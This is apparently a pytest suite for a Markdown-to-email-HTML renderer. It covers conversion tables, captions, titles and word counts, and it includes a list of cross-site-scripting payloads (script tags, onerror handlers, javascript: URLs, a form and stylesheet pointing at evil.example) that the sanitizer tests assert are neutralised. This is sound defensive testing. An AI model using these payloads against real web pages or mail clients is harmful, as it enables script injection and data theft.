"""Markdown to mail HTML: the table of what becomes what, hostile bodies, and titles."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from digest.language import language
from digest.render.markup import body, inline, plain, styled, words
from digest.render.tree import write

BASE = "https://example.org/blog/a/"
CSS = "p { margin: 0 } .free { width: auto } a { color: #0b6b5d }"


def mail(markdown: str, **how: str) -> str:
    """A body as mail HTML, before colours."""
    tag = how.pop("language", "en")
    made = body(markdown, base=how.pop("base", BASE), language=language(tag), **how)
    return re.sub(r' (?:class|cellpadding|cellspacing|border|width|role|dir)="[^"]*"', "", write(list(made.nodes)))


def repairs(markdown: str) -> list[str]:
    """The rules of what was mended."""
    return [rule for rule, _ in body(markdown, base=BASE, language=language("en")).repairs]


def test_what_stands_under_a_picture_is_its_caption() -> None:
    """Small type or italics, in the picture's paragraph or small type in the next; nothing else, no second one."""
    shown = "![b](/c.png)"

    def captions(markdown: str) -> int:
        made = body(markdown, base=BASE, language=language("en"))
        return sum(n.has_class("caption") for n in made.nodes if not isinstance(n, str))

    for caption in ("\n<small>By A</small>", "\n*By A*", "<br>\n<i>By A</i>", "\n\n<small>By A</small>"):
        assert captions(shown + caption) == 1, caption
    assert captions(f"[{shown}](/d)\n*By A*") == 1
    for other in ("\nBy A", "\n\n*By A*", "\n*By* A", f"\n*{shown}*", "\n**By A**", "\n\nx\n\n<small>By A</small>"):
        assert captions(shown + other) == 0, other


@pytest.mark.parametrize(
    ("written", "mailed"),
    [
        ("Text *a* **b** ~~c~~ `d`", "<p>Text <em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>"),
        ("“Curly” &amp; &mdash; &lt;b&gt;", "<p>“Curly” &amp; — &lt;b&gt;</p>"),
        ("# One\n\n## Two\n\n### Three", "<h3>One</h3><h4>Two</h4><h4>Three</h4>"),
        ("## Two\n\n##### Five", "<h3>Two</h3><h4>Five</h4>"),
        ("a\n\t\n \t\nb", "<p>a</p><p>b</p>"),
        ("It ends since 1", "<p>It ends since 1</p>"),
        ("[a](../b/?c=1&d=2) [e](#f) [g]() [h](/i#j)",
         '<p><a href="https://example.org/blog/b/?c=1&amp;d=2">a</a> e g <a href="https://example.org/i#j">h</a></p>'),
        ("see https://e.org/a_(b), ok", '<p>see <a href="https://e.org/a_(b)">https://e.org/a_(b)</a>, ok</p>'),
        ("<a href='https://e.org/ü x'>a</a>", '<p><a href="https://e.org/%C3%BC%20x">a</a></p>'),
        ("[m](mailto:a@b.example) [t](tel:+1) [l](http://localhost:8080/) [p](http://10.0.0.1/)",
         '<p><a href="mailto:a@b.example">m</a> <a href="tel:+1">t</a> l p</p>'),
        ("> a\n>\n> b", "<blockquote><p>a</p><p>b</p></blockquote>"),
        ("- a\n- b\n  - c", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        ("3. a\n4. b", '<ol start="3"><li>a</li><li>b</li></ol>'),
        ("- [x] a\n- [ ] b", "<ul><li>☑ a</li><li>☐ b</li></ul>"),
        ("```js\na < b\n\n  c\n```", "<table><tr><td><pre>a &lt; b\n\n  c</pre></td></tr></table>"),
        ('<pre><code><span class="hl">x</span>\n</code></pre>', "<table><tr><td><pre>x</pre></td></tr></table>"),
        ("|a|b|\n|-|-:|\n|1|2|",
         '<table><tr><th scope="col" align="left">a</th><th scope="col" align="right">b</th></tr>'
         '<tr><td>1</td><td align="right">2</td></tr></table>'),
        ("|a|b|c|d|e|\n|-|-|-|-|-|\n|1|2|3|4||",
         "<p><strong>a:</strong> 1<br><strong>b:</strong> 2<br><strong>c:</strong> 3<br><strong>d:</strong> 4</p>"),
        ("<table><caption>C</caption><tr><th>r</th><td colspan=2>x</td></tr></table>",
         '<p>C</p><table><tr><th scope="row" align="left">r</th><td colspan="2">x</td></tr></table>'),
        ("<table><tr><th>A</th><td><p>b</p><p>c</p></td></tr></table>",
         '<table><tr><th scope="row" align="left">A</th><td>b  c</td></tr></table>'),
        ("<table><tr><td><table><tr><td>in</td></tr></table></td><td>b</td></tr></table>", "<p>in</p><p>b</p>"),
        ("a[^1] b\n\n[^1]: Note *x*.", "<p>a<sup>[1]</sup> b</p><table><tr><td>\xa0</td></tr></table>"
         "<p>[1] Note <em>x</em>.</p>"),
        ("a ![b](/c.png) d", '<p>a</p><p><img src="https://example.org/c.png" alt="b"></p><p>d</p>'),
        ("[![b](/c.png)](/d)",
         '<p><a href="https://example.org/d"><img src="https://example.org/c.png" alt="b"></a></p>'),
        ('<figure><img src="c.jpg" width="1072" height="200"><figcaption>F</figcaption></figure>',
         '<p><img src="https://example.org/blog/a/c.jpg" alt="" height="100"></p><p>F</p>'),
        ('![b](/c.png)\n<small aria-hidden="true">By [A](https://e.org/)</small>',
         '<p><img src="https://example.org/c.png" alt="b"></p><p>By <a href="https://e.org/">A</a></p>'),
        ("<div class='admonition x'><p class='admonition-title'>Mind this</p><p>a</p></div>",
         "<blockquote><p><strong>Mind this</strong></p><p>a</p></blockquote>"),
        ("<picture><source srcset='x.webp'><img src='c.jpg' alt='b'></picture>",
         '<p><img src="https://example.org/blog/a/c.jpg" alt="b"></p>'),
        ("![logo](/a.svg) text", "<p>logo text</p>"),
        ("<details><summary>S</summary>\n\nin\n\n</details>", "<p><strong>S</strong></p><p>in</p>"),
        ('<iframe src="https://www.youtube.com/embed/ab_c?x=1"></iframe>',
         '<table><tr><td><a href="https://www.youtube.com/watch?v=ab_c">▶\ufe0e Watch on youtube.com</a>'
         "</td></tr></table>"),
        ('<iframe src="//player.vimeo.com/video/12"></iframe>',
         '<table><tr><td><a href="https://vimeo.com/12">▶\ufe0e Watch on vimeo.com</a></td></tr></table>'),
        ('<iframe src="https://codepen.example/x"></iframe>',
         '<table><tr><td><a href="https://codepen.example/x">▶\ufe0e View on codepen.example</a></td></tr></table>'),
        ('<iframe></iframe><video><source src="/v.mp4"></video>',
         '<table><tr><td><a href="https://example.org/v.mp4">▶\ufe0e Watch on example.org</a></td></tr></table>'),
        ('<audio src="https://e.org/a.mp3"></audio>',
         '<table><tr><td><a href="https://e.org/a.mp3">▶\ufe0e Listen on e.org</a></td></tr></table>'),
        ('<video poster="/p.jpg" src="/v.mp4">x</video>',
         '<p><a href="https://example.org/v.mp4"><img src="https://example.org/p.jpg" alt="Watch on example.org"></a>'
         "</p>"),
        ("<video>no source</video>", "<p>no source</p>"),
        ("Term\n: Def", "<p><strong>Term</strong></p><blockquote><p>Def</p></blockquote>"),
        ("---\n\n***\n\na[^1]\n\n---\n\n---\n\n[^1]: b",
         "<p>a<sup>[1]</sup></p><table><tr><td>\xa0</td></tr></table><p>[1] b</p>"),
        ("a\n\n---\n\n<!-- x -->", "<p>a</p>"),
        ("---", ""),
        ("a\n\n---\n\nb", "<p>a</p><table><tr><td>\xa0</td></tr></table><p>b</p>"),
        (":rocket: :tada: `:bug:` 10:30:45 :no_such_thing:",
         "<p>🚀 🎉 <code>:bug:</code> 10:30:45 :no_such_thing:</p>"),
        ("<div><p>a</p>loose <b>b</b></div>", "<p>a</p><p>loose <strong>b</strong></p>"),
        ("<span><div>in</div></span> <q>said</q> <mark>m</mark> <abbr>ab</abbr><wbr>",
         "<p>in</p><p>“said” <mark>m</mark> ab</p>"),
        ("<a href='/x'><h2>T</h2><p>d</p></a>", '<h3><a href="https://example.org/x">T</a></h3><p><a href="https://example.org/x">d</a></p>'),
        ('<h2>Seen <iframe src="https://www.youtube.com/embed/a"></iframe></h2>',
         '<h3>Seen</h3><table><tr><td><a href="https://www.youtube.com/watch?v=a">▶\ufe0e Watch on youtube.com</a>'
         "</td></tr></table>"),
        ("# ![b](/c.png) T", '<p><img src="https://example.org/c.png" alt="b"></p><h3>T</h3>'),
        ("at http://localhost:80/x and <a href='/x'> </a>.", "<p>at http://localhost:80/x and  .</p>"),
        ("<math><mi>x</mi></math>", "<p><code>x</code></p>"),
        ("a<!-- more -->b <p hidden>gone</p><span style='display: none'>gone</span>", "<p>ab</p>"),
        ("<b><img src='/c.png'></b><i></i>", '<p><img src="https://example.org/c.png" alt=""></p>'),
        ("<li>loose item</li><td>cell</td>", "<p>loose item</p><p>cell</p>"),
        ("<p>a<br><br></p><p><br></p>", "<p>a</p>"),
        ("<dl><dt></dt><dd></dd></dl><ul></ul><ol><li></li></ol><blockquote></blockquote>", ""),
        ("<input type='text'><input type='checkbox' checked> done", "<p>☑ done</p>"),
    ],
)  # fmt: skip
def test_what_becomes_what(written: str, mailed: str) -> None:
    """Each line: Markdown or HTML of a post, and what mail clients get."""
    assert mail(written) == mailed


def test_a_title_is_not_said_twice() -> None:
    """A body that opens with its own title starts after it; levels follow what is left."""
    assert mail("# The *title*!\n\n## A\n\nb", title="The title!") == "<h3>A</h3><p>b</p>"
    assert mail("# Another\n\nb", title="The title!") == "<h3>Another</h3><p>b</p>"
    assert mail("", title="x") == ""


def test_boxes_speak_the_issues_language() -> None:
    """The arrow points where reading goes."""
    assert "Auf youtube.com ansehen" in mail('<iframe src="https://www.youtube.com/embed/a"></iframe>', language="de")
    assert "◀" in mail('<iframe src="https://www.youtube.com/embed/a"></iframe>', language="ar")
    assert 'align="right"' in mail("|a|\n|-|\n|1|", language="ar")


def test_a_feeds_body_is_html() -> None:
    """Indented HTML is no block of code, an asterisk no emphasis."""
    assert mail("<div>\n\n      <p>a *b*</p>\n\n</div>", dialect="feed") == "<p>a *b*</p>"


def test_without_a_page_relative_addresses_lead_nowhere() -> None:
    """The words stay; the picture goes and is told."""
    assert mail("[a](b) ![c](d.png)", base="") == "<p>a</p>"


@pytest.mark.parametrize(
    ("written", "rules"),
    [
        ("![a](http://example.org/a.png)", ["image-scheme"]),
        ("![a](data:image/png;base64,AAAA)", ["image-scheme"]),
        ("<img>", ["image-scheme"]),
        ("![a](/a.svg) ![b](/b.avif?x=1)", ["image-format", "image-format"]),
        ('<img src="https://t.example/p.gif" width="1" height="1">', ["tracking"]),
        ('<img src="https://t.example/p.gif" style="width: 1px; height: 0">', ["tracking"]),
        ("![a](/a.png) [b](http://example.com/)", []),
    ],
)
def test_what_is_mended_is_told(written: str, rules: list[str]) -> None:
    """A dropped picture is a warning with the lint's name for it; an http link is kept in silence."""
    assert repairs(written) == rules
    assert "http://example.org/a.png" not in mail(written)


HOSTILE = [
    "<script>alert(1)</script>x",
    "<ScRiPt src=//evil.example></sCrIpT>",
    '<img src=x onerror="alert(1)">',
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "<a href='java\nscript:alert(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<style>body{display:none}</style><p style="position:fixed;background:url(//evil.example)">x</p>',
    '<form action="https://evil.example"><input name="p"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="javascript:alert(1)"></iframe>',
    '<base href="//evil.example"><link rel="stylesheet" href="//evil.example"><meta http-equiv="refresh" content="0">',
    '<p id="x" class="i" onclick="alert(1)">x</p>',
    "&#xFDD0;token&#xFDD1; <p title='&#xFDD0;'>\ufdd0address\ufdd1</p>",
    '<a href="https://example.org/&#xFDD0;token&#xFDD1;">x</a>',
    '![x" onerror="alert(1)](https://e.org/a.png)',
    "</td></tr></table></mj-raw><mj-text>out</mj-text>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[x]]><?php echo 1 ?>",
    "[x](https://user:pass@evil.example/)",
    "<a href=\"https://e.org/'onmouseover='x\">x</a>",
]
ALLOWED = {
    *("p", "h3", "h4", "ul", "ol", "li", "blockquote", "table", "tr", "td", "th", "pre", "code", "a", "img", "strong"),
    *("em", "del", "u", "sub", "sup", "br", "mark"),
}
ATTRIBUTES = {
    *("href", "src", "alt", "width", "height", "class", "style", "scope", "align", "colspan", "rowspan", "start"),
    *("role", "dir", "cellpadding", "cellspacing", "border"),
}


def safe(html: str) -> None:
    """Only elements and attributes that we write, only addresses that people may follow, no slot."""
    parser = html5lib.HTMLParser(strict=False, namespaceHTMLElements=False)
    tree = parser.parseFragment(html, container="td")
    assert not parser.errors, (parser.errors, html)
    for element in tree.iter():
        if not isinstance(element.tag, str) or element.tag in ("DOCUMENT_FRAGMENT", "tbody"):
            assert isinstance(element.tag, str), "a comment came through"
            continue
        assert element.tag in ALLOWED, element.tag
        assert set(element.attrib) <= ATTRIBUTES, element.attrib
        assert re.match(r"https?:|mailto:|tel:|$", element.attrib.get("href", "")), element.attrib
        assert re.match(r"https:|$", element.attrib.get("src", "")), element.attrib
        assert not re.search(r"url\(|position|expression", element.attrib.get("style", ""))
    assert not re.search("[\ufdd0-\ufdef]", html)


@pytest.mark.parametrize("written", HOSTILE)
def test_nothing_hostile_comes_through(written: str) -> None:
    """What posts may try: none of it runs, loads, hides or fills a slot."""
    made = body(written, base=BASE, language=language("en"))
    safe(styled(made.nodes, CSS))


BROKEN = [
    *("# h\n", "- ", "> ", "```\n", "\n\n", "|a|b|\n|-|-|\n|c|d|\n", "[^1]", "<div>", "</div>", "<p>", "<table><tr>"),
    *("<td>", "*", "`", "![", "](", "<a href='", "{{", "{%", "\\", "<li>", "text "),
]
PIECES = st.sampled_from([*HOSTILE, *BROKEN])


@given(st.lists(PIECES | st.text(max_size=8), max_size=12).map("".join))
def test_no_mixture_comes_through_either(written: str) -> None:
    """Any mixture of hostile and broken pieces gives well-formed, harmless HTML, and text of it."""
    made = body(written, base=BASE, language=language("en"))
    safe(styled(made.nodes, CSS))
    assert "\ufdd0" not in plain(made.nodes)


def test_nesting_has_an_end() -> None:
    """Five thousand elements in one another do not end the program; their text stays."""
    for opening, closing in (("<div>", "</div>"), ("<b>", "</b>"), ("<blockquote>", "</blockquote>")):
        assert "deep" in mail(opening * 3000 + "deep" + closing * 3000)


def test_styles_stand_in_the_elements_and_classes_for_the_dark_remain() -> None:
    """Mail clients drop style sheets; helper classes are no reader's business."""
    made = body("![a](/a.png)\n\n`x`", base=BASE, language=language("en"))
    html = styled(made.nodes, CSS)
    assert 'style="width: auto;"' in html
    assert 'class="m"' in html
    assert 'class="k"' in html
    assert "picture" not in html
    assert styled((), CSS) == ""


@pytest.mark.parametrize(
    ("written", "text", "html"),
    [
        ("`Array.prototype` and *more*", "Array.prototype and more", "<code>Array.prototype</code> and <em>more</em>"),
        ("**Bold** [link](https://x) ![i](y)", "Bold link i", "<strong>Bold</strong> link i"),
        ("__init__.py and snake_case", "__init__.py and snake_case", "__init__.py and snake_case"),
        ("f(*args, **kwargs) 2 * 3 * 4", "f(*args, **kwargs) 2 * 3 * 4", "f(*args, **kwargs) 2 * 3 * 4"),
        ("Tips &amp; tricks &lt;T&gt;", "Tips & tricks <T>", "Tips &amp; tricks &lt;T&gt;"),
        ("Vec<T> <script>", "Vec<T> <script>", "Vec&lt;T&gt; &lt;script&gt;"),
        ("{{ 7*7 }} {% x %}", "{{ 7*7 }} {% x %}", "{{ 7*7 }} {% x %}"),
        ("`&amp;` \\*a\\* :tada:", "&amp; *a* 🎉", "<code>&amp;amp;</code> *a* 🎉"),
        ("&#xFDD0;token&#xFDD1;", "token", "token"),
        ("  two\n lines ", "two lines", "two lines"),
        ("", "", ""),
    ],
)
def test_titles(written: str, text: str, html: str) -> None:
    """Code, emphasis and entities count in titles; underscores, lone asterisks and tags are text."""
    assert inline(written) == (text, html)


@given(st.text(max_size=80))
def test_no_title_is_markup(title: str) -> None:
    """Whatever it holds: its HTML has code, em and strong alone, and says the same as its text."""
    text, html = inline(title)
    fragment = html5lib.parseFragment(html, namespaceHTMLElements=False)
    assert {e.tag for e in fragment.iter()} <= {"DOCUMENT_FRAGMENT", "code", "em", "strong"}
    assert "".join(fragment.itertext()).split() == text.split()


@pytest.mark.parametrize(
    ("written", "count"),
    [
        ("one two, three-four don’t", 4),
        ("# head\n\n```\nnot code here\n```\n[text](https://example.org/a/b) <b class='x y'>bold</b> {{ a b c }}", 3),
        ("日本語の文章です", 4),
        ("<script>var a = 1;</script> import x\nimport a from 'b'", 2),
        ("", 0),
    ],
)
def test_words_are_what_readers_read(written: str, count: int) -> None:
    """Code, markup and addresses take no time; Chinese and Japanese are counted by their signs."""
    assert words(written) == count


def test_a_footnote_has_one_number_however_often_it_is_named() -> None:
    """The plugin counts the places as well, `[1:1]`; readers look for 1."""
    made = body("A[^x], b[^y], and a again[^x].\n\n[^x]: One.\n[^y]: Two.", base="", language=language("en"))
    assert re.findall(r"<sup>(.*?)</sup>", write(list(made.nodes))) == ["[1]", "[2]", "[1]"]


@pytest.mark.parametrize("sign", ["- ", "1. ", "> "])
def test_what_stands_deep_is_not_pushed_off_a_telephone(sign: str) -> None:
    """Six steps from the edge; what is deeper stands there too, with a dot where it was an item; no word is lost."""
    markdown = "".join(f"{'   ' * n if sign != '> ' else '> ' * n}{sign}level {n}\n" for n in range(12))
    made = body(markdown, base="", language=language("en"))
    html = write(list(made.nodes))
    assert len(re.findall("<(?:ul|ol|blockquote)", html)) == 6
    assert all(f"level {n}" in html for n in range(12))
    assert ("• level 7" in html) == (sign != "> ")
